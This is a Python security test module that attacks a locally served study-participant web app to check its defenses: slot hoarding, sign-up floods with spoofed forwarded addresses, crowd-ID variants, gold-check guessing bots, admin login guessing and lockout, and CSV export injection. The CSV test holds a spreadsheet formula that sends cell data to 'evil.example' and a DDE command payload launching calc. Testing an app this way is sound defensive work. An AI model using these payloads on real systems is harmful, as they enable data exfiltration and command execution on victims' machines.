"""The cheap attacks of issue 22, run against a served app (benchmarks/faults.py runs them while its
participants keep answering). Each attack returns one line: what it did, what came back, whether
the outcome is the one the README's "Security model" promises, and the 5xx it drew (must be 0).

The server must believe X-Forwarded-For from 127.0.0.1 (`SFGEVAL_TRUSTED_PROXIES=127.0.0.1`) so
that the attacks can come "from" distinct addresses, and have an admin (`SFGEVAL_ADMIN_USER` /
`SFGEVAL_ADMIN_PASSWORD`, see ADMIN).
"""

from __future__ import annotations

import concurrent.futures
import csv
import hashlib
import io
import random
import re
import sys
import uuid
import zipfile
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import httpx

sys.path.insert(0, str(Path(__file__).resolve().parent))
from loadsetup import seed_study  # noqa: E402

ADMIN = ("attack-admin", "correct horse battery staple 22")
FORMULA = tuple("=+-@\t\r")


@dataclass
class Outcome:
    name: str
    ok: bool
    detail: str
    server_errors: int


class Attacker:
    """An httpx client that counts 5xx and speaks "from" an address of its choice."""

    def __init__(self, base: str, address: str = "203.0.113.66"):
        self.errors = 0
        self.http = httpx.Client(base_url=base, timeout=60, headers={"X-Forwarded-For": address},
                                 event_hooks={"response": [self._count]})

    def _count(self, r: httpx.Response) -> None:
        if r.status_code >= 500:
            self.errors += 1

    def join(self, slug: str, **ids) -> httpx.Response:
        return self.http.post(f"/api/studies/{slug}/participants", json={"external_ids": ids} if ids else None)

    def next(self, token: str) -> httpx.Response:
        return self.http.get("/api/next", headers={"X-Participant": token})

    def answer(self, token: str, trial: str, choice: int) -> httpx.Response:
        return self.http.post(f"/api/trials/{trial}/answer", headers={"X-Participant": token},
                              json={"choice": choice, "request_id": str(uuid.uuid4())})

    def finish(self, token: str, choose=lambda body: 3) -> dict:
        for _ in range(200):
            r = self.next(token)
            body = r.json()
            if r.status_code != 200 or body.get("done"):
                return {"status": r.status_code, **body}
            self.answer(token, body["trial"], choose(body))
        raise RuntimeError("never finished")

    def login(self, user: str, password: str) -> httpx.Response:
        page = self.http.get("/admin/login")
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        return self.http.post("/admin/login", data={"username": user, "password": password, "csrf_token": csrf})

    def csrf(self, path: str) -> str:
        return re.search(r'name="csrf_token" value="([^"]+)"', self.http.get(path).text).group(1)


def _study(url: str, **config) -> str:
    from sqlalchemy import create_engine, update

    from app.store.models import Study

    spec = dict(pairs=6, pairs_per_participant=2, ratings_per_pair=2, gold_rate=0.0, repeats=0, practice=0)
    spec.update({k: v for k, v in config.items() if k in spec})
    slug = seed_study(url, SimpleNamespace(**spec))
    extra = {k: v for k, v in config.items() if k not in spec}
    if extra:
        engine = create_engine(url)
        with engine.begin() as conn:
            conn.execute(update(Study).where(Study.slug == slug).values(**extra))
        engine.dispose()
    return slug


def _reserved(url: str, slug: str) -> int:
    from sqlalchemy import create_engine, func, select

    from app.store.models import Study, Trial, utcnow

    engine = create_engine(url)
    with engine.connect() as conn:
        n = conn.scalar(select(func.count(Trial.id)).join(Study, Study.id == Trial.study_id).where(
            Study.slug == slug, Trial.kind == "main", Trial.state == "assigned", Trial.reserved.is_(True),
            Trial.expires_at > utcnow()))
    engine.dispose()
    return int(n or 0)


def hoarding(base: str, url: str) -> Outcome:
    """16 sign-ups answer their practice trial and go idle on a 12-slot study."""
    slug = _study(url, pairs=6, pairs_per_participant=2, ratings_per_pair=2, practice=1, completion_code="REAL")
    a = Attacker(base)
    for k in range(16):
        a.http.headers["X-Forwarded-For"] = f"198.18.0.{k + 1}"
        token = a.join(slug).json()["participant"]
        first = a.next(token).json()
        a.answer(token, first["trial"], 3)
        a.next(token)
    held = _reserved(url, slug)
    real, with_code, answered = 0, 0, 0
    for k in range(8):
        a.http.headers["X-Forwarded-For"] = f"198.18.1.{k + 1}"
        end = a.finish(a.join(slug).json()["participant"])
        if end["status"] != 200:
            break
        real += 1
        with_code += "completion_code" in end
        answered += end["progress"]["done"]
        if ("completion_code" in end) == bool(end.get("full")):
            return Outcome("1 slot hoarding", False, f"inconsistent end {end}", a.errors)
    ok = held <= 6 and answered == 12 - held
    return Outcome("1 slot hoarding", ok, f"16 idle sign-ups hold {held} of 12 slots; real participants answered "
                   f"{answered}, {with_code} of {real} with the code, the rest 'study full'", a.errors)


def flooding(base: str, url: str) -> Outcome:
    slug = _study(url, pairs=4)
    a = Attacker(base, "203.0.113.99")
    codes = [a.join(slug).status_code for _ in range(1000)]
    launch = Attacker(base)
    distinct = []
    for k in range(300):
        launch.http.headers["X-Forwarded-For"] = f"10.22.{k // 200}.{k % 200 + 1}"
        distinct.append(launch.join(slug).status_code)
    ok = codes.count(429) >= 900 and set(distinct) == {201}
    return Outcome("2 sign-up flood", ok, f"1000 from one address: {codes.count(201)} created, {codes.count(429)} "
                   f"429; 300 from distinct addresses: {distinct.count(201)} created", a.errors + launch.errors)


def crowd_ids(base: str, url: str) -> Outcome:
    slug = _study(url, pairs=4)
    a = Attacker(base, "203.0.113.30")
    pid = "5f1a2b3c4d5e6f708192a3b4"
    a.join(slug, PROLIFIC_PID=pid)
    variants = [pid.upper(), f" {pid} ", "".join(chr(ord(c) + 0xFEE0) for c in pid), f"{pid}\r", f"\t{pid}",
                f"\u200f{pid}", f"{pid}\u202e"]
    codes = [a.join(slug, PROLIFIC_PID=v).status_code for v in variants]
    return Outcome("3 crowd ids", 201 not in codes, f"7 variants of one PID: {codes} (never a new participant)",
                   a.errors)


def gold_cues(base: str, url: str, n_bots: int = 40) -> Outcome:
    """Bots guess the intact image of each gold check from URLs, bytes, sizes and fetch times."""
    slug = _study(url, pairs=6, pairs_per_participant=2, gold_rate=1.0, ratings_per_pair=10_000)
    a = Attacker(base)
    seen_urls: set[str] = set()
    guesses: dict[str, str] = {}
    rng = random.Random(22)
    for k in range(n_bots):
        a.http.headers["X-Forwarded-For"] = f"198.19.{k // 200}.{k % 200 + 1}"
        token = a.join(slug).json()["participant"]
        seen_urls.clear()
        seen_hashes: set[str] = set()
        while True:
            body = a.next(token).json()
            if body.get("done") or "trial" not in body:
                break
            got = [a.http.get(body[s]) for s in ("left", "right")]
            hashes = [hashlib.sha256(r.content).hexdigest() for r in got]
            fam = [body[s] in seen_urls or h in seen_hashes for s, h in zip(("left", "right"), hashes)]
            if fam[0] != fam[1]:
                side = "left" if fam[0] else "right"
            elif len(got[0].content) != len(got[1].content):
                side = "left" if len(got[0].content) > len(got[1].content) else "right"
            else:
                side = "left" if got[0].elapsed < got[1].elapsed else "right"
            if fam[0] == fam[1] and len(got[0].content) == len(got[1].content) and got[0].elapsed == got[1].elapsed:
                side = rng.choice(["left", "right"])
            guesses[body["trial"]] = side
            seen_urls.update((body["left"], body["right"]))
            seen_hashes.update(hashes)
            a.answer(token, body["trial"], 1 if side == "left" else 5)
    from sqlalchemy import create_engine, select

    from app.store.models import Rating, Study, Trial

    engine = create_engine(url)
    with engine.connect() as conn:
        rows = conn.execute(select(Trial.public_id, Rating.score).join(Rating, Rating.trial_id == Trial.id)
                            .join(Study, Study.id == Trial.study_id)
                            .where(Study.slug == slug, Trial.kind == "gold")).all()
    engine.dispose()
    # A gold rating's score is positive exactly when the intact image was chosen.
    right = sum(score > 0 for public_id, score in rows if public_id in guesses)
    acc = right / max(1, len(rows))
    return Outcome("4 gold cues", acc <= 0.60 and len(rows) >= 40,
                   f"cue bot's gold accuracy {acc:.2f} over {len(rows)} gold trials (chance 0.5)", a.errors)


def gold_passing_random(base: str, url: str, n_people: int = 24) -> Outcome:
    """Bots that pass every gold check and repeat (they read the truth from the database, as a
    script measuring sharpness and remembering pixels could) but answer real pairs at random,
    among people who answer each pair's visible preference with noise: no bot may be suggested
    APPROVE (the agreement check, app/statistics/agreement.py)."""
    from sqlalchemy import create_engine, select

    from app.store.models import Rating, Trial

    # The default rules but the speed rule: a script can always wait.
    rules = {"fail_gold": True, "straight_lining": True, "min_consistency": 0.5, "max_side_bias": 0.9}
    slug = _study(url, pairs=30, pairs_per_participant=20, ratings_per_pair=10_000, gold_rate=0.2, repeats=2,
                  exclusion_rules=rules)
    engine = create_engine(url)
    a = Attacker(base)

    def choose(rng: random.Random, bot: bool):
        def pick(body: dict) -> int:
            with engine.connect() as conn:
                kind, side, pair, first = conn.execute(select(
                    Trial.kind, Trial.treatment_side, Trial.pair_id, Trial.repeat_of_trial_id).where(
                    Trial.public_id == body["trial"])).one()
                earlier = conn.scalar(select(Rating.score).where(Rating.trial_id == first)) if first else None
            if body.get("practice"):
                return 3
            if kind == "gold":  # a gold rating scores > 0 exactly when the intact image is chosen
                score = 2
            elif kind == "repeat" and bot:
                score = earlier
            elif bot:
                return rng.randint(1, 5)
            else:
                latent = random.Random(pair).choice([-1.3, 1.3])
                score = max(-2, min(2, round(latent + rng.gauss(0, 1))))
            return 3 - score if side == "left" else 3 + score
        return pick

    bots = set()
    for k in range(n_people):
        a.http.headers["X-Forwarded-For"] = f"198.18.{k // 200}.{k % 200 + 1}"
        pid = f"{k:024x}"
        if k % 3 == 2:
            bots.add(pid)
        a.finish(a.join(slug, PROLIFIC_PID=pid).json()["participant"], choose(random.Random(k), pid in bots))
    engine.dispose()
    assert a.login(*ADMIN).status_code in (200, 303)
    rows = a.http.get(f"/admin/studies/{slug}/participants.json").json()["participants"]
    got = {r["PROLIFIC_PID"]: r["suggested"] for r in rows}
    bots_ok = sum(got[p] == "APPROVE" for p in bots)
    bots_review = sum(got[p] == "REVIEW" for p in bots)  # kept by every rule, yet not approved
    people_ok = sum(v == "APPROVE" for p, v in got.items() if p not in bots)
    gold = [r["gold_pass_rate"] for r in rows if r["PROLIFIC_PID"] in bots]
    return Outcome("4 random on real pairs", bots_ok == 0 and bots_review == len(bots) and len(got) == n_people,
                   f"{len(bots)} bots passing gold ({min(gold):.0%}-{max(gold):.0%}) and repeats: {bots_ok} suggested "
                   f"APPROVE, {bots_review} REVIEW; people answering like each other: {people_ok} of {n_people - len(bots)}", a.errors)


def csv_injection(base: str, url: str) -> Outcome:
    slug = _study(url, pairs=4, pairs_per_participant=2, ratings_per_pair=5)
    a = Attacker(base, "203.0.113.31")
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    for pid, session in ((hostile, "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "-2+3")):
        a.finish(a.join(slug, PROLIFIC_PID=pid, SESSION_ID=session).json()["participant"])
    assert a.login(*ADMIN).status_code in (200, 303)
    live = []
    for path in (f"/admin/studies/{slug}/participants/decisions.csv",
                 f"/admin/studies/{slug}/participants/completion-codes.csv", f"/admin/studies/{slug}/export.csv"):
        text = a.http.get(path).text
        for row in csv.reader(io.StringIO(text, newline="")):
            live += [c for c in row if c[:1] in FORMULA and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    return Outcome("5 CSV injection", not live, f"live formula cells in 3 CSV files: {len(live)}", a.errors)


def last_answer(base: str, url: str) -> Outcome:
    slug = _study(url, pairs=2, pairs_per_participant=2, ratings_per_pair=1, auto_close=True, completion_code="LAST")
    a = Attacker(base, "203.0.113.32")
    end = a.finish(a.join(slug).json()["participant"])
    return Outcome("6 auto-close last answer", end.get("completion_code") == "LAST",
                   f"last participant's end: {end.get('status')}, code {end.get('completion_code')}", a.errors)


def lockout(base: str, url: str) -> Outcome:
    guesser = Attacker(base, "203.0.113.40")
    codes = [guesser.login(ADMIN[0], f"guess-{i}").status_code for i in range(12)]

    import threading

    barrier = threading.Barrier(12)

    def parallel(i: int) -> int:  # each fetches its form, then all 12 post at the same moment
        a = Attacker(base, "203.0.113.41")
        csrf = a.csrf("/admin/login")
        barrier.wait()
        return a.http.post("/admin/login", data={"username": ADMIN[0], "password": f"wrong-{i}",
                                                 "csrf_token": csrf}).status_code

    import math
    import time

    from app.accounts.login_throttle import FREE_PER_PAIR

    started = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        burst = list(pool.map(parallel, range(12)))
    # After FREE_PER_PAIR failures each further guess waits 1 s, 2 s, 4 s ... after the last: a
    # burst that a busy machine stretches over s seconds may check floor(log2(s + 1)) more.
    seconds = time.monotonic() - started
    allowed = FREE_PER_PAIR + int(math.log2(seconds + 1))
    admin = Attacker(base, "198.51.100.7")
    status = admin.login(*ADMIN).status_code
    ok = status == 303 and burst.count(401) <= allowed and codes.count(429) >= 5
    return Outcome("7 admin lock-out", ok, f"guesser: {codes.count(401)} checked, {codes.count(429)} 429; 12 parallel "
                   f"guesses: {burst.count(401)} checked (at most {allowed} over {seconds:.1f} s); the admin from "
                   f"elsewhere: {status}",
                   guesser.errors + admin.errors)


def smaller(base: str, url: str) -> Outcome:
    slug = _study(url, pairs=2, pairs_per_participant=1, ratings_per_pair=3, completion_code="NOSTORE")
    draft = _study(url, pairs=2, state="draft", title="Secret hypothesis")
    a = Attacker(base, "203.0.113.50")
    assert a.login(*ADMIN).status_code in (200, 303)
    checks = {}
    plan = a.http.post(f"/admin/studies/{slug}/plan",
                       data={"csrf_token": a.csrf(f"/admin/studies/{slug}/plan"), "sims": "20", "sd_participant": "1e308"})
    checks["plan 1e308"] = plan.status_code == 422
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("manifest.jsonl", "x" * 400)
    raw = bytearray(buf.getvalue())
    raw[60:80] = b"\xa5" * 20  # the member's data, not its headers
    z = a.http.post("/admin/pair-sets/import", params={"csrf_token": a.csrf("/admin/pair-sets")},
                    files={"archive": ("damaged.zip", bytes(raw), "application/zip")})
    checks["damaged zip"] = z.status_code == 422
    d = a.http.get(f"/s/{draft}")
    checks["draft hidden"] = d.status_code == 404 and "Secret" not in d.text
    stats = a.http.get(f"/admin/studies/{slug}/statistics")
    checks["statistics no-store"] = stats.headers.get("cache-control") == "no-store"
    p = Attacker(base, "203.0.113.51")
    p.http.post(f"/s/{slug}/start", data={"consent": "yes"})
    run = p.http.get(f"/s/{slug}/run")
    checks["trial page no-store"] = run.status_code == 200 and run.headers.get("cache-control") == "no-store"
    end = p.finish(p.http.cookies.get("participant"))
    done = p.http.get(f"/s/{slug}/done")
    checks["done page no-store"] = "NOSTORE" in done.text and done.headers.get("cache-control") == "no-store"
    codes = a.http.get(f"/admin/studies/{slug}/participants/completion-codes.csv").text
    checks["codes = shown"] = codes.count("NOSTORE") == int("completion_code" in end)
    bad = [k for k, v in checks.items() if not v]
    return Outcome("9 smaller holes", not bad, "all hold" if not bad else f"failed: {bad}", a.errors + p.errors)


ATTACKS = (hoarding, flooding, crowd_ids, gold_cues, gold_passing_random, csv_injection, last_answer, lockout, smaller)


def run_attacks(base: str, url: str) -> list[Outcome]:
    out = []
    for attack in ATTACKS:
        try:
            out.append(attack(base, url))
        except Exception as e:  # an attack that could not run is a failure, with its reason
            out.append(Outcome(attack.__name__, False, f"{type(e).__name__}: {e}", 0))
    return out
